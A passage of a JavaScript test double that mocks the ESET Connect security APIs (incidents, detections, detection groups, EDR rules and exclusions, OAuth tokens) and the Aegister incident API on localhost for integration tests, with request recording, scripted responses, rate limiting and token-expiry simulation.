			return m ? build(m) : undefined;
		}).find(Boolean);
		if (!predicate) return undefined;
		predicates.push(predicate);
	}
	return (incident) => predicates.every((p) => p(incident));
}

class ApiDouble {
	constructor() {
		/** @type {RecordedRequest[]} */
		this.requests = [];
		this.scripted = freshScripts();
		this.eset = freshEsetState();
		this.aegister = freshAegisterState();
		/** @type {import('node:http').Server | undefined} */
		this.server = undefined;
		this.url = '';
	}

	/**
	 * Forget recorded requests and scripted behaviour; reseed the data. `newApiUser`: ESET's API
	 * user changes too (each jest test starts as a new API user; see `credentials()`).
	 */
	reset({ newApiUser = false } = {}) {
		this.requests = [];
		this.scripted = freshScripts();
		this.eset = freshEsetState(newApiUser);
		this.aegister = freshAegisterState();
	}

	/**
	 * Answer the next `times` requests that `match` with `response` (before any default behaviour).
	 * @param {(r: RecordedRequest) => boolean} match
	 * @param {ScriptedResponse | ((r: RecordedRequest) => ScriptedResponse | undefined)} response
	 */
	script(match, response, times = 1) {
		this.scripted.push({ match, response, times });
	}

	/**
	 * Requests to one side, in arrival order.
	 * @param {'eset'|'aegister'|'token'|'incidents'|'devices'|'automation'|'quarantine'} which
	 */
	requestsTo(which) {
		return this.requests.filter((r) => {
			if (which === 'token') return r.path === '/eset/oauth/token';
			if (which === 'incidents') return /^\/eset\/v[12]\//.test(r.path);
			if (['devices', 'automation', 'quarantine'].includes(which))
				return r.path.startsWith(`/eset-${which}/`);
			return r.path.startsWith(`/${which}/`);
		});
	}

	/** Replace ESET's incidents with `count` generated ones. @param {number} count */
	seedEsetIncidents(count) {
		this.eset.incidents = seedIncidents(count, seedDetections());
		return this.eset.incidents;
	}

	/**
	 * Add `count` generated detections; with `incidentUuid`, they become detections of that incident
	 * (appended to its `detectionUuids`). @param {number} count @param {string} [incidentUuid]
	 */
	seedEsetDetections(count, incidentUuid) {
		const incident =
			incidentUuid === undefined
				? undefined
				: this.eset.incidents.find((i) => i.uuid === incidentUuid);
		if (incidentUuid !== undefined && !incident)
			throw new Error(`no seeded incident ${incidentUuid}`);
		const generated = generatedDetections(
			count,
			incident ? this.eset.incidents.indexOf(incident) + 1 : 0,
		).map((d) => d.detection);
		this.eset.detections.push(...generated);
		if (incident)
			/** @type {any} */ (incident).detectionUuids = [
				.../** @type {any} */ (incident.detectionUuids ?? []),
				...generated.map((d) => d.uuid),
			];
		return generated;
	}

	/** Add `count` generated detections and their groups (for paging). @param {number} count */
	seedEsetDetectionGroups(count) {
		const groups = seedDetectionGroups(this.seedEsetDetections(count));
		this.eset.detectionGroups.push(...groups);
		return groups;
	}

	/** Add `count` generated EDR rules and as many exclusions of them (for paging). @param {number} count */
	seedEdrRulesAndExclusions(count) {
		for (let i = 1; i <= count; i++) {
			const [rule] = seedEdrRules();
			this.eset.edrRules.push({
				...rule,
				uuid: `edr-rule-generated-${i}`,
				displayName: `Generated rule ${i}`,
			});
			const [exclusion] = seedEdrRuleExclusions();
			this.eset.edrRuleExclusions.push({
				...exclusion,
				uuid: `exclusion-generated-${i}`,
				ruleUuids: [`edr-rule-generated-${i}`],
			});
		}
	}

	/** Give Aegister organization 1 the incidents 1 … `count` (for bulk runs). @param {number} count */
	seedAegisterIncidents(count) {
		for (let id = 1; id <= count; id++) {
			this.aegister.incidents.set(`1/${id}`, {
				id,
				organization_id: 1,
				title: `Incident ${id}`,
				reference_code: '',
				status: 'draft',
				classification: {},
				metadata: {},
				'24h_notification': {},
				'72h_notification': {},
				full_report: {},
			});
		}
	}

	/** @returns {Promise<string>} the base URL */
	async start(port = 0) {
		this.server = http.createServer((req, res) => this.receive(req, res));
		this.server.keepAliveTimeout = 1000;
		await new Promise((resolve) =>
			this.server?.listen(port, '127.0.0.1', () => resolve(undefined)),
		);
		const address = /** @type {import('node:net').AddressInfo} */ (this.server.address());
		this.url = `http://127.0.0.1:${address.port}`;
		return this.url;
	}

	async stop() {
		if (!this.server) return;
		this.server.closeAllConnections?.();
		await new Promise((resolve) => this.server?.close(() => resolve(undefined)));
		this.server = undefined;
	}

	/** Credentials that point the nodes at this double. */
	credentials() {
		return {
			esetConnectApi: {
				region: 'custom',
				incidentManagementUrl: `${this.url}/eset`,
				deviceManagementUrl: `${this.url}/eset-devices`,
				automationUrl: `${this.url}/eset-automation`,
				quarantineManagementUrl: `${this.url}/eset-quarantine`,
				tokenUrl: `${this.url}/eset/oauth/token`,
				username: this.eset.user,
				password: ESET_PASSWORD,
				accessToken: '',
			},
			aegisterApi: { apiToken: AEGISTER_TOKEN, baseUrl: `${this.url}/aegister` },
		};
	}

	/**
	 * @param {import('node:http').IncomingMessage} req
	 * @param {import('node:http').ServerResponse} res
	 */
	receive(req, res) {
		const chunks = /** @type {Buffer[]} */ ([]);
		req.on('data', (chunk) => chunks.push(chunk));
		req.on('end', () => {
			const rawBody = Buffer.concat(chunks).toString('utf8');
			const url = new URL(req.url ?? '/', 'http://double');
			/** @type {any} */
			let body = rawBody;
			const type = String(req.headers['content-type'] ?? '');
			if (type.includes('application/json') && rawBody) {
				try {
					body = JSON.parse(rawBody);
				} catch {
					body = rawBody;
				}
			} else if (type.includes('application/x-www-form-urlencoded')) {
				body = Object.fromEntries(new URLSearchParams(rawBody));
			}
			/** @type {RecordedRequest} */
			const request = {
				method: req.method ?? 'GET',
				path: decodeURIComponent(url.pathname),
				rawPath: (req.url ?? '/').split('?')[0],
				query: Object.fromEntries(url.searchParams),
				queryAll: [...new Set(url.searchParams.keys())].reduce(
					(all, key) => ({ ...all, [key]: url.searchParams.getAll(key) }),
					/** @type {Record<string,string[]>} */ ({}),
				),
				headers: req.headers,
				rawBody,
				body,
				at: Date.now(),
			};
			this.requests.push(request);
			const respond = (/** @type {ScriptedResponse} */ response) => {
				request.answered = { status: response.status, body: response.body };
				const headers = { 'request-id': randomUUID(), ...(response.headers ?? {}) };
				const payload =
					response.body === undefined
						? ''
						: typeof response.body === 'string' || Buffer.isBuffer(response.body)
							? response.body
							: JSON.stringify(response.body);
				if (payload && !headers['content-type']) headers['content-type'] = 'application/json';
				res.writeHead(response.status, headers);
				res.end(payload);
			};
			const answer = this.answer(request);
			if (!ESET_API.test(request.path)) return respond(answer);
			const eset = this.eset;
			eset.maxInFlight = Math.max(eset.maxInFlight, ++eset.inFlight);
			setTimeout(() => {
				eset.inFlight--;
				respond(answer);
			}, eset.latencyMs);
		});
	}

	/** @param {RecordedRequest} request @returns {ScriptedResponse} */
	answer(request) {
		const scripted = this.scripted.find((s) => s.times > 0 && s.match(request));
		if (scripted) {
			const response =
				typeof scripted.response === 'function' ? scripted.response(request) : scripted.response;
			if (response) {
				scripted.times--;
				return response;
			}
		}
		if (request.path === '/eset/oauth/token') return this.esetToken(request);
		// a chat or paging webhook, for example workflows that notify someone
		if (request.path === '/notify' && request.method === 'POST')
			return { status: 200, body: { ok: true } };
		if (ESET_API.test(request.path)) return this.esetApi(request);
		if (request.path.startsWith('/aegister/')) return this.aegisterApi(request);
		return { status: 404, body: { message: 'no such route in the API double' } };
	}

	// ------------------------------------------------------------------ ESET

	/** @param {RecordedRequest} request @returns {ScriptedResponse} */
	esetToken(request) {
		if (
			!String(request.headers['content-type'] ?? '').includes('application/x-www-form-urlencoded')
		) {
			return { status: 415, body: { error: 'unsupported_media_type' } };
		}
		const { grant_type: grantType, username, password } = request.body ?? {};
		if (grantType !== 'password' || username !== this.eset.user || password !== ESET_PASSWORD) {
			return {
				status: 400,
				body: { error: 'invalid_grant', error_description: 'Invalid user credentials' },
			};
		}
		const token = `eset-access-${randomUUID()}`;
		const refreshToken = `eset-refresh-${randomUUID()}`;
		this.eset.tokens.push(token);
		this.eset.grants.push({ accessToken: token, refreshToken });
		return {
			status: 200,
			body: {
				access_token: token,
				refresh_token: refreshToken,
				token_type: 'Bearer',
				expires_in: 3600,
			},
		};
	}

	/** Make every token issued so far invalid (as if they had expired). */
	expireEsetTokens() {
		this.eset.tokens = [];
	}

	/** @param {RecordedRequest} request @returns {ScriptedResponse} */
	esetApi(request) {
		const auth = String(request.headers.authorization ?? '');
		const token = auth.startsWith('Bearer ') ? auth.slice(7) : '';
		const valid = this.eset.keepOldTokensValid
			? this.eset.tokens.includes(token)
			: token === this.eset.tokens.at(-1);
		if (!valid)
			return { status: 401, body: { code: 16, message: 'token has expired or is invalid' } };

		const limit = this.eset.requestsPerSecondLimit;
		if (limit) {
			const recent = this.requests.filter(
				(r) =>
					ESET_API.test(r.path) &&
					r.at > request.at - 1000 &&
					r.headers.authorization === request.headers.authorization,
			);
			if (recent.length > limit) {
				this.eset.tooManyRequestsSent++;
				return { status: 429, body: { code: 8, message: 'rate limit reached' } };
			}
		}

		const key = `${request.method} ${request.rawPath}?${new URLSearchParams(request.query)} ${request.rawBody}`;
		const responseId = /** @type {string | undefined} */ (request.headers['response-id']);
		if (responseId) {
			const pending = this.eset.pending.get(responseId);
			if (!pending || pending.collected || pending.key !== key) {
				return { status: 404, body: { code: 5, message: 'cached response not found' } };
			}
			if (pending.remaining > 0) {
				pending.remaining--;
				return { status: 202, headers: { 'response-id': responseId }, body: [] };
			}
			pending.collected = true;
		} else if (this.eset.slowResponses > 0) {
			this.eset.slowResponses--;
			const id = randomUUID();
			this.eset.pending.set(id, {
				remaining: this.eset.pollsUntilReady - 1,
				key,
				collected: false,
			});
			return { status: 202, headers: { 'response-id': id }, body: [] };
		}
		return containmentAnswer(this.eset, request) ?? this.esetResource(request);
	}

	/** @param {RecordedRequest} request @returns {ScriptedResponse} */
	esetResource(request) {
		const notFound = { status: 404, body: { code: 5, message: 'incident not found' } };
		const path = request.rawPath.replace(/^\/eset/, '');
		const { incidents } = this.eset;
		const find = (/** @type {string} */ encodedUuid) =>
			incidents.find((i) => i.uuid === decodeURIComponent(encodedUuid));

		if (request.method === 'GET' && path === '/v2/incidents') {
			const matches = compileEsetFilter(request.query.filter ?? '');
			if (!matches)
				return {
					status: 400,
					body: { code: 3, message: `invalid filter: ${request.query.filter}` },
				};
			const matching = incidents.filter(matches);
			const orderBy = String(request.query.orderBy ?? '').trim();
			if (orderBy) {
				const rules = orderBy.split(',').map((rule) => rule.trim().split(/\s+/));
				const value = (/** @type {any} */ incident, /** @type {string} */ key) =>
					/Time$/.test(key) ? Date.parse(incident[key]) : (incident[key] ?? '');
				matching.sort((a, b) => {
					for (const [name, direction] of rules) {
						const key = field(name);
						if (!key) continue;
						const [x, y] = [value(a, key), value(b, key)];
						if (x !== y) return (x < y ? -1 : 1) * (direction === 'desc' ? -1 : 1);
					}
					return 0;
				});
			}
			const pageSize = Math.min(Number(request.query.pageSize) || 50, 1000);
			const start = Number(request.query.pageToken || 0);
			const page = matching
				.slice(start, start + pageSize)
				.map(({ deviceUuids, detectionUuids, ...rest }) => rest);
			const next = start + pageSize < matching.length ? String(start + pageSize) : '';
			return { status: 200, body: { incidents: page, nextPageToken: next } };
		}
		let match = path.match(/^\/v2\/incidents\/([^/]+):(close|reopen)$/);
		if (match && request.method === 'POST') {
			const incident = find(match[1]);
			if (!incident) return notFound;
			if (match[2] === 'close') {
				incident.status = 'INCIDENT_STATUS_CLOSED';
				incident.resolveReason =
					request.body?.closureReason ?? 'INCIDENT_RESOLVE_REASON_UNSPECIFIED';
			} else {
				if (incident.status === 'INCIDENT_STATUS_OPEN')
					return { status: 400, body: { code: 9, message: 'incident is already open' } };
				incident.status = 'INCIDENT_STATUS_OPEN';
			}
			return { status: 200, body: {} };
		}
		match = path.match(/^\/v2\/incidents\/([^/:]+)$/);
		if (match && request.method === 'GET') {
			const incident = find(match[1]);
			return incident ? { status: 200, body: { incident } } : notFound;
		}
		match = path.match(/^\/v2\/incidents\/([^/]+)\/basic-attributes:update$/);
		if (match && request.method === 'POST') {
			const incident = find(match[1]);
			if (!incident) return notFound;
			for (const field of String(request.body?.updateMask ?? '')
				.split(',')
				.filter(Boolean)) {
				/** @type {any} */ (incident)[field] = request.body[field] ?? '';
			}
			return { status: 200, body: { incident } };
		}
		if (path.startsWith('/v2/detections') || path.startsWith('/v1/detections'))
			return this.esetDetections(request, path);
		if (path.startsWith('/v2/detection-groups')) return this.esetDetectionGroups(request, path);
		if (path.startsWith('/v2/edr-rule-exclusions'))
			return this.esetEdrRuleExclusions(request, path);
		if (path.startsWith('/v2/edr-rules')) return this.esetEdrRules(request, path);
		match = path.match(/^\/v2\/incidents\/([^/]+)\/comments(?:\/([^/]+?))?(\/text:update)?$/);
		if (match) {
			const incident = find(match[1]);
			if (!incident) return notFound;
			const comments = this.eset.comments.get(incident.uuid) ?? [];
			this.eset.comments.set(incident.uuid, comments);
			const commentUuid = match[2] && decodeURIComponent(match[2]);
			const comment = commentUuid && comments.find((c) => c.uuid === commentUuid);
			if (!commentUuid && request.method === 'GET') return { status: 200, body: { comments } };
			if (!commentUuid && request.method === 'POST') {
				const created = {
					uuid: randomUUID(),
					incidentUuid: incident.uuid,
					text: request.body?.comment?.text ?? '',
					isFinalComment: false,
					authorUuid: 'api-user',
					createTime: new Date().toISOString(),
				};
				comments.push(created);
				return { status: 200, body: { comment: created } };
			}
			if (!comment) return { status: 404, body: { code: 5, message: 'comment not found' } };
			if (match[3] && request.method === 'POST') {
				comment.text = request.body?.text ?? '';
				return { status: 200, body: {} };
			}
			if (request.method === 'GET') return { status: 200, body: { comment } };
			if (request.method === 'DELETE') {
				comments.splice(comments.indexOf(comment), 1);
				return { status: 200, body: {} };
			}
		}
		return { status: 404, body: { code: 5, message: 'no such ESET route in the API double' } };
	}

	/**
	 * The detection endpoints, as incident-management.json documents them and as production clients
	 * show a device (ESET PROTECT / Inspect) tenant answers them:
	 * - `GET /v1/detections`: the device detections (those without a Cloud Office tenant), v1 shape;
	 *   `startTime` (inclusive), `endTime` (exclusive), `deviceUuid`, paging; `filter` or `orderBy`
	 *   is a 400.
	 * - `GET /v2/detections`: ESET Cloud Office Security detections only; without a
	 *   `cloudOfficeTenantUuid` a device tenant answers 501.
	 * - `POST /v2/detections:batchGet`: atomic (AIP-231): one unknown UUID fails the whole batch with
	 *   404; more than 1000 UUIDs is 400 OUT_OF_RANGE; more than the recommended 100 is answered with
	 *   500 INTERNAL here (ESET documents that it "may" be); 501 while `eset.batchGetUnsupported`.
	 * - `GET /v2/detections/{uuid}` reads any detection; `POST …:resolve` with `{note?}` → `{}`.
	 * @param {RecordedRequest} request @param {string} path
	 * @returns {ScriptedResponse}
	 */
	esetDetections(request, path) {
		const { detections } = this.eset;
		const invalid = (/** @type {string} */ message) => ({
			status: 400,
			body: { code: 3, message },
		});
		const list = (/** @type {any[]} */ listed) => {
			const pageSize = Math.min(Number(request.query.pageSize) || 50, 1000);
			const start = Number(request.query.pageToken || 0);
			const page = listed.slice(start, start + pageSize);
			const next = start + pageSize < listed.length ? String(start + pageSize) : '';
			return {
				status: 200,
				body: { ...(page.length ? { detections: page } : {}), nextPageToken: next },
			};
		};
		if (request.method === 'GET' && (path === '/v1/detections' || path === '/v2/detections')) {
			const { startTime, endTime, cloudOfficeTenantUuid: tenant, deviceUuid } = request.query;
			const rfc3339 = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}(:\d{2}(\.\d+)?)?(Z|[+-]\d{2}:\d{2})$/;
			for (const [name, value] of Object.entries({ startTime, endTime })) {
				if (value !== undefined && !rfc3339.test(value))
					return invalid(`invalid ${name}: ${value}`);
			}
			const inWindow = (/** @type {any} */ d) =>
				(startTime === undefined || Date.parse(d.occurTime) >= Date.parse(startTime)) &&
				(endTime === undefined || Date.parse(d.occurTime) < Date.parse(endTime));
			if (path === '/v1/detections') {
				const unknown = Object.keys(request.query).filter(
					(name) => !['startTime', 'endTime', 'deviceUuid', 'pageSize', 'pageToken'].includes(name),
				);
				if (unknown.length) return invalid(`unknown parameter: ${unknown.join(', ')}`);
				return list(
					detections
						.filter(
							(d) =>
								!d.cloudOfficeTenantUuid &&
								inWindow(d) &&
								(!deviceUuid || d.device?.uuid === deviceUuid),
						)
						.map(v1Detection),
				);
			}
			if (!tenant)
				return {
					status: 501,
					body: {
						code: 12,
						message: 'not implemented: this tenant has no ESET Cloud Office Security detections',
					},
				};
			return list(detections.filter((d) => d.cloudOfficeTenantUuid === tenant && inWindow(d)));
		}
		if (
			request.method === 'POST' &&
			path === '/v2/detections:batchGet' &&
			this.eset.batchGetUnsupported
		) {
			return { status: 501, body: { code: 12, message: 'not implemented' } };
		}
		if (request.method === 'POST' && path === '/v2/detections:batchGet') {
			const uuids = request.body?.detectionUuids;
			if (!Array.isArray(uuids) || !uuids.every((u) => typeof u === 'string'))
				return invalid('detectionUuids must be a list of strings');
			if (uuids.length > 1000)
				return {
					status: 400,
					body: {
						code: 11,
						message: `batch of ${uuids.length} detections exceeds the limit of 1000`,
					},
				};
			if (uuids.length > 100)
				return { status: 500, body: { code: 13, message: 'internal error: batch too large' } };
			const found = uuids.map((uuid) => detections.find((d) => d.uuid === uuid));
			const missing = uuids.filter((_, index) => !found[index]);
			if (missing.length)
				return { status: 404, body: { code: 5, message: `detection not found: ${missing[0]}` } };
			return { status: 200, body: found.length ? { detections: found } : {} };
		}
		const match = path.match(/^\/v2\/detections\/([^/:]+)(:resolve)?$/);
		const detection = match && detections.find((d) => d.uuid === decodeURIComponent(match[1]));
		if (match && !detection)
			return { status: 404, body: { code: 5, message: 'detection not found' } };
		if (match && !match[2] && request.method === 'GET') return { status: 200, body: { detection } };
		if (match && match[2] && request.method === 'POST') {
			if (request.body === undefined || typeof request.body !== 'object')
				return invalid('the body must be a JSON object');
			detection.resolved = true;
			if (typeof request.body.note === 'string') detection.note = request.body.note;
			return { status: 200, body: {} };
		}
		return { status: 404, body: { code: 5, message: 'no such ESET route in the API double' } };
	}

	/**
	 * The detection-group endpoints, as incident-management.json documents them:
	 * - `GET /v2/detection-groups`: `startTime` / `endTime` (RFC 3339) on the group's `occurTime`,
	 *   `deviceUuid`, `cloudOfficeTenantUuid`, paging as for detections;
	 * - `POST /v2/detection-groups:search` `{filter?, returnTotalSize?}` → `{detectionGroups}` (no
	 *   paging is documented), the filter evaluated by `compileSearchFilter`;
	 * - `GET /v2/detection-groups/{uuid}`, `POST /v2/detection-groups/{uuid}:resolve` `{note?}` → `{}`:
	 *   every detection of the group resolved.
	 * @param {RecordedRequest} request @param {string} path
	 * @returns {ScriptedResponse}
	 */
	esetDetectionGroups(request, path) {
		const groups = this.eset.detectionGroups;
		const invalid = (/** @type {string} */ message) => ({
			status: 400,
			body: { code: 3, message },
		});
		if (request.method === 'GET' && path === '/v2/detection-groups') {
			const {
				startTime,
				endTime,
				deviceUuid,
				cloudOfficeTenantUuid: tenant,
				pageToken,
			} = request.query;
			const rfc3339 = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}(:\d{2}(\.\d+)?)?(Z|[+-]\d{2}:\d{2})$/;
			for (const [name, value] of Object.entries({ startTime, endTime })) {
				if (value !== undefined && !rfc3339.test(value))
					return invalid(`invalid ${name}: ${value}`);
			}
			const matching = groups.filter(
				(g) =>
					(startTime === undefined || Date.parse(g.occurTime) >= Date.parse(startTime)) &&
					(endTime === undefined || Date.parse(g.occurTime) < Date.parse(endTime)) &&
					(!deviceUuid || g.device?.uuid === deviceUuid) &&
					(!tenant || g.cloudOfficeTenantUuid === tenant),
			);
			const pageSize = Math.min(Number(request.query.pageSize) || 50, 1000);
			const start = Number(pageToken || 0);
			const page = matching.slice(start, start + pageSize);
			const next = start + pageSize < matching.length ? String(start + pageSize) : '';
			return {
				status: 200,
				body: { ...(page.length ? { detectionGroups: page } : {}), nextPageToken: next },
			};
		}
		if (request.method === 'POST' && path === '/v2/detection-groups:search') {
			if (!request.body || typeof request.body !== 'object' || Array.isArray(request.body))
				return invalid('the body must be a JSON object');
			const { filter = '' } = request.body;
			if (typeof filter !== 'string') return invalid('filter must be a string');
			const compiled = compileSearchFilter(filter);
			if ('problem' in compiled) return invalid(compiled.problem);
			const found = groups.filter(compiled.matches);
			return { status: 200, body: found.length ? { detectionGroups: found } : {} };
		}
		const match = path.match(/^\/v2\/detection-groups\/([^/:]+)(:resolve)?$/);
		const group = match && groups.find((g) => g.uuid === decodeURIComponent(match[1]));
		if (match && !group)
			return { status: 404, body: { code: 5, message: 'detection group not found' } };
		if (match && !match[2] && request.method === 'GET')
			return { status: 200, body: { detectionGroup: group } };
		if (match && match[2] && request.method === 'POST') {
			if (!request.body || typeof request.body !== 'object')
				return invalid('the body must be a JSON object');
			group.resolved = true;
			group.resolvedCount = group.groupSize;
			if (typeof request.body.note === 'string') group.note = request.body.note;
			for (const detection of this.eset.detections.filter((d) =>
				group.detectionOccurenceUuids.includes(d.uuid),
			)) {
				detection.resolved = true;
				if (typeof request.body.note === 'string') detection.note = request.body.note;
			}
			return { status: 200, body: {} };
		}
		return { status: 404, body: { code: 5, message: 'no such ESET route in the API double' } };
	}

	/**
	 * A list of EDR rules or exclusions: `pageSize` (default 50, at most 1000), `pageToken`, and
	 * `totalSize` only when `includeTotalSize=true`.
	 * @param {RecordedRequest} request @param {any[]} all @param {string} property
	 * @returns {ScriptedResponse}
	 */
	esetEdrList(request, all, property) {
		const { includeTotalSize, pageToken } = request.query;
		if (includeTotalSize !== undefined && !['true', 'false'].includes(includeTotalSize)) {
			return {
				status: 400,
				body: { code: 3, message: `invalid includeTotalSize: ${includeTotalSize}` },
			};
		}
		const pageSize = Math.min(Number(request.query.pageSize) || 50, 1000);
		const start = Number(pageToken || 0);
		const page = all.slice(start, start + pageSize);
		const next = start + pageSize < all.length ? String(start + pageSize) : '';
		return {
			status: 200,
			body: {
				...(page.length ? { [property]: page } : {}),
				nextPageToken: next,
				...(includeTotalSize === 'true' ? { totalSize: String(all.length) } : {}),
			},
		};
	}

	/**
	 * The EDR rule endpoints: list (`severityLevel`, `includeTotalSize`, paging), create
	 * `{rule: {xmlDefinition, enabled?, scopes?}}` → `{rule}`, get, delete → `{}`, `:enable` /
	 * `:disable` `{}` → `{}`, `:updateDefinition` `{xmlDefinition}` → `{rule}`. An XML definition
	 * that is not a valid rule is answered with 400 INVALID_ARGUMENT and ESET-style message.
	 * @param {RecordedRequest} request @param {string} path
	 * @returns {ScriptedResponse}
	 */
	esetEdrRules(request, path) {
		const rules = this.eset.edrRules;
		const invalid = (/** @type {string} */ message) => ({
			status: 400,
			body: { code: 3, message },
		});
		const isObject = (/** @type {any} */ value) =>
			!!value && typeof value === 'object' && !Array.isArray(value);
		if (request.method === 'GET' && path === '/v2/edr-rules') {
			const { severityLevel } = request.query;
			const levels = [
				'SEVERITY_LEVEL_UNSPECIFIED',
				'SEVERITY_LEVEL_DIAGNOSTIC',
				'SEVERITY_LEVEL_INFORMATIONAL',
				'SEVERITY_LEVEL_LOW',
				'SEVERITY_LEVEL_MEDIUM',
				'SEVERITY_LEVEL_HIGH',
			];
			if (severityLevel !== undefined && !levels.includes(severityLevel))
				return invalid(`invalid severityLevel: ${severityLevel}`);
			const matching =
				!severityLevel || severityLevel === 'SEVERITY_LEVEL_UNSPECIFIED'
					? rules
					: rules.filter((r) => r.severityLevel === severityLevel);
			return this.esetEdrList(request, matching, 'rules');
		}
		if (request.method === 'POST' && path === '/v2/edr-rules') {
			const rule = request.body?.rule;
			if (!isObject(rule)) return invalid('rule is required');
			const problem = xmlDefinitionProblem(rule.xmlDefinition) ?? scopesProblem(rule.scopes);
			if (problem) return invalid(problem);
			if (rule.enabled !== undefined && typeof rule.enabled !== 'boolean')
				return invalid('enabled must be a boolean');
			const created = {
				uuid: randomUUID(),
				displayName: nameInXml(rule.xmlDefinition),
				enabled: rule.enabled ?? false,
				severityLevel: 'SEVERITY_LEVEL_UNSPECIFIED',
				severityScore: 0,
				scopes: rule.scopes ?? [],
				xmlDefinition: rule.xmlDefinition,
				authorUuid: 'api-user',
				editorUuid: 'api-user',
			};
			rules.push(created);
			return { status: 200, body: { rule: created } };
		}
		const match = path.match(/^\/v2\/edr-rules\/([^/:]+)(?::(enable|disable|updateDefinition))?$/);
		const rule = match && rules.find((r) => r.uuid === decodeURIComponent(match[1]));
		if (match && !rule) return { status: 404, body: { code: 5, message: 'rule not found' } };
		if (match && !match[2] && request.method === 'GET') return { status: 200, body: { rule } };
		if (match && !match[2] && request.method === 'DELETE') {
			rules.splice(rules.indexOf(rule), 1);
			return { status: 200, body: {} };
		}
		if (match && match[2] && request.method === 'POST') {
			if (!isObject(request.body)) return invalid('the body must be a JSON object');
			if (match[2] === 'updateDefinition') {
				const problem = xmlDefinitionProblem(request.body.xmlDefinition);
				if (problem) return invalid(problem);
				Object.assign(rule, {
					xmlDefinition: request.body.xmlDefinition,
					displayName: nameInXml(request.body.xmlDefinition),
					editorUuid: 'api-user',
				});
				return { status: 200, body: { rule } };
			}
			rule.enabled = match[2] === 'enable';
			return { status: 200, body: {} };
		}
		return { status: 404, body: { code: 5, message: 'no such ESET route in the API double' } };
	}

	/**
	 * The EDR rule exclusion endpoints: list (`includeTotalSize`, paging), create
	 * `{exclusion: {xmlDefinition, enabled?, note? (≤ 2048), ruleUuids?, scopes?}}` → `{exclusion}`
	 * (every rule UUID must name a rule), get, delete → `{}`, `:updateDefinition` `{xmlDefinition}`
	 * → `{exclusion}`.
	 * @param {RecordedRequest} request @param {string} path
	 * @returns {ScriptedResponse}
	 */
	esetEdrRuleExclusions(request, path) {
		const exclusions = this.eset.edrRuleExclusions;
		const invalid = (/** @type {string} */ message) => ({
			status: 400,
			body: { code: 3, message },
		});
		const isObject = (/** @type {any} */ value) =>
			!!value && typeof value === 'object' && !Array.isArray(value);
		if (request.method === 'GET' && path === '/v2/edr-rule-exclusions')
			return this.esetEdrList(request, exclusions, 'exclusions');
		if (request.method === 'POST' && path === '/v2/edr-rule-exclusions') {
			const exclusion = request.body?.exclusion;
			if (!isObject(exclusion)) return invalid('exclusion is required');
			const problem =
				xmlDefinitionProblem(exclusion.xmlDefinition) ?? scopesProblem(exclusion.scopes);
			if (problem) return invalid(problem);
			if (
				exclusion.note !== undefined &&
				(typeof exclusion.note !== 'string' || exclusion.note.length > 2048)
			)
				return invalid('note must be at most 2048 characters');
			const ruleUuids = exclusion.ruleUuids ?? [];
			if (!Array.isArray(ruleUuids) || !ruleUuids.every((uuid) => typeof uuid === 'string'))
				return invalid('ruleUuids must be a list of strings');
			const unknown = ruleUuids.find((uuid) => !this.eset.edrRules.some((r) => r.uuid === uuid));
			if (unknown !== undefined) return invalid(`rule not found: ${unknown}`);
			const created = {
				uuid: randomUUID(),
				displayName: nameInXml(exclusion.xmlDefinition),
				enabled: exclusion.enabled ?? false,
				...(exclusion.note ? { note: exclusion.note } : {}),
				ruleUuids,
				scopes: exclusion.scopes ?? [],
				xmlDefinition: exclusion.xmlDefinition,
				authorUuid: 'api-user',
				editorUuid: 'api-user',
			};
			exclusions.push(created);
			return { status: 200, body: { exclusion: created } };
		}
		const match = path.match(/^\/v2\/edr-rule-exclusions\/([^/:]+)(:updateDefinition)?$/);
		const exclusion = match && exclusions.find((e) => e.uuid === decodeURIComponent(match[1]));
		if (match && !exclusion)
			return { status: 404, body: { code: 5, message: 'exclusion not found' } };
		if (match && !match[2] && request.method === 'GET') return { status: 200, body: { exclusion } };
		if (match && !match[2] && request.method === 'DELETE') {
			exclusions.splice(exclusions.indexOf(exclusion), 1);
			return { status: 200, body: {} };
		}
		if (match && match[2] && request.method === 'POST') {
			if (!isObject(request.body)) return invalid('the body must be a JSON object');
			const problem = xmlDefinitionProblem(request.body.xmlDefinition);
			if (problem) return invalid(problem);
			Object.assign(exclusion, {
				xmlDefinition: request.body.xmlDefinition,
				displayName: nameInXml(request.body.xmlDefinition),
				editorUuid: 'api-user',
			});
			return { status: 200, body: { exclusion } };
		}
		return { status: 404, body: { code: 5, message: 'no such ESET route in the API double' } };
	}

	// ------------------------------------------------------------------ Aegister

	/** @param {RecordedRequest} request @returns {ScriptedResponse} */
	aegisterApi(request) {
		const envelope = (/** @type {any} */ data, extra = {}) => ({
			status: 200,
			body: { error: 0, messages: [], data, ...extra },
		});
		const failure = (
			/** @type {number} */ status,
			/** @type {string[]} */ messages,
			/** @type {any} */ data = {},
		) => ({ status, body: { error: 1, messages, data } });
		if (
			request.headers['x-aegister-token'] !== AEGISTER_TOKEN ||
			'X-Aegister-Token' in request.query
		) {
			return failure(401, ['Invalid token.']);
		}
		const path = request.path.replace(/^\/aegister\/api\/v1/, '');
		if (request.method === 'GET' && path === '/organizations') {
			const limit = Number(request.query.limit ?? 50);
			const offset = Number(request.query.offset ?? 0);
			const name = String(request.query.name ?? '').toLowerCase();
			const matching = this.aegister.organizations.filter((o) =>
				o.name.toLowerCase().includes(name),
			);
			return envelope(matching.slice(offset, offset + limit), { total: matching.length });
		}
		let match = request.rawPath
			.replace(/^\/aegister\/api\/v1/, '')
			.match(/^\/V-Ciso\/incidents\/([^/]+)\/threat-intel$/);
		if (match && request.method === 'POST') {
			const indicators = request.body?.indicators;
			if (!Array.isArray(indicators) || indicators.length === 0) {
				return failure(400, ['Validation failed.'], {
					errors: { indicators: ['This field is required.'] },
				});
			}
			const data = indicators.map((/** @type {any} */ i) => ({
				type: i.type,
				value: i.value,
				threat_intel: /** @type {any} */ (THREAT_INTEL)[i.type] ?? null,
			}));
			return envelope(data, { total: data.length });
		}
		match = request.rawPath
			.replace(/^\/aegister\/api\/v1/, '')
			.match(/^\/V-Ciso\/incidents\/([^/]+)\/([^/]+)$/);
		if (match && request.method === 'PATCH') {
			const incident = this.aegister.incidents.get(`${match[1]}/${match[2]}`);
			if (!incident) return failure(404, ['Incident not found.']);
			const allowed = [
				'title',
				'reference_code',
				'classification',
				'metadata',
				'status',
				'subject_type',
				'24h_notification',
				'72h_notification',
				'full_report',
			];
			const unknown = Object.keys(request.body ?? {}).filter((k) => !allowed.includes(k));
			if (unknown.length)
				return failure(400, ['Validation failed.'], {
